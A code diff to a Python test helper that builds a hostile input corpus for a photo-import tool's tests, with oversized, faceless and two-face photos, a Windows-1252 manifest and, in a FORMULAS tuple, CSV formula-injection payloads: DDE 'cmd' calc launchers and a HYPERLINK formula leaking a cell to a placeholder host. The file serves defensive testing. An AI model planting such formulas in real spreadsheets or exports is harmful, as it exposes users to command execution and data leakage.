@@ -1,4 +1,5 @@
-"""A bad-input corpus for import tests (command line now, browser upload later).
+"""A bad-input corpus for import tests: the command line (tests/test_import.py) and a real browser
+upload of the Import page (tests/test_security.py).
 
 `build_corpus(folder, astronaut)` writes photos and a manifest; it returns the manifest path and
 what the report must say about each file (severity and a phrase of the reason).
@@ -80,3 +81,37 @@ def _save(img: Image.Image, fmt: str) -> bytes:
     buf = io.BytesIO()
     img.save(buf, fmt)
     return buf.getvalue()
+
+
+# Formula-injection payloads (OWASP "CSV injection"): every CSV we write must neutralise them.
+FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"open\")")
+
+
+def build_hostile_corpus(folder: Path, astronaut: np.ndarray) -> tuple[Path, dict[str, tuple[str, str]]]:
+    """The corpus above plus what a careless or hostile manifest brings: formula cells in file
+    names and subject codes, a Windows-1252 manifest with accented codes, a 12-megapixel photo,
+    a photo without a face and one with two. Faces are not looked for at import (measurement
+    reports `no_face` / `multiple_faces`), so those three import fine."""
+    manifest, expect = build_corpus(folder, astronaut)
+    from tests.conftest import jpeg_bytes
+
+    face = np.asarray(Image.fromarray(astronaut).crop((130, 30, 320, 250)))
+    extra = {
+        "huge.jpg": jpeg_bytes(np.asarray(Image.fromarray(astronaut).resize((4000, 3000)))),
+        "noface.jpg": jpeg_bytes(np.full((400, 400, 3), 128, np.uint8)),
+        "twofaces.jpg": jpeg_bytes(np.concatenate([face, face], axis=1)),
+    }
+    for name, data in extra.items():
+        (folder / name).write_bytes(data)
+    text = manifest.read_text(encoding="utf-8")
+    text += "huge.jpg,P003,MV0,hospital\r\n"
+    text += f"noface.jpg,\"{FORMULAS[4].replace(chr(34), chr(34) * 2)}\",MV0,hospital\r\n"
+    text += "twofaces.jpg,Müller-Éloïse,MV0,mobile\r\n"
+    for i, f in enumerate(FORMULAS[:4]):
+        text += f"\"{f.replace(chr(34), chr(34) * 2)}.jpg\",P00{i},MV0,hospital\r\n"
+    manifest.write_bytes(text.encode("cp1252"))
+    expect.update({"huge.jpg": ("ok", ""), "noface.jpg": ("ok", ""), "twofaces.jpg": ("ok", ""),
+                   "manifest.csv": ("warning", "Windows-1252"),
+                   **{f"{f}.jpg": ("error", "no such file") for f in FORMULAS[:4]}})
+    return manifest, expect
